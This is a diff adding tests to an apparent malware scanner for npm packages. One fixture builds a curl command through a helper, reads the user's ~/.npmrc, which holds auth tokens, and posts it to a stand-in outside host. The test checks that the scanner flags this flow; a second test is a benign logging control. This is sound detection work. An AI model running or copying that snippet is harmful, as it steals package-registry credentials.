@@ -228,3 +228,26 @@ exports.save = (apps) => fs.writeFileSync(os.homedir() + '/.mytool/dump.json', J
     expect(cmd.evidence.map((f) => f.rule)).toContain('script.download-execute');
   });
 });
+
+describe('a helper that only fills a list it closes over (after the review)', () => {
+  it('a command line built by a helper called four times is followed to what it sends', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const argv = [];
+const add = function (x) { argv.push(x); };
+add('curl'); add('-d'); add(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8')); add('https://x.example-sync.net/c');
+require('child_process').execFileSync(argv[0], argv.slice(1));`,
+    });
+    expect(found.evidence.map((f) => f.rule)).toContain('js.exfil-flow');
+  });
+  it('quiet: a helper that collects log lines into its own list', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const lines = [];
+const log = (m) => { lines.push(new Date().toISOString() + ' ' + m); };
+log('start'); log('ready'); log('done'); log('bye');
+module.exports = () => lines.join('\\n');`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
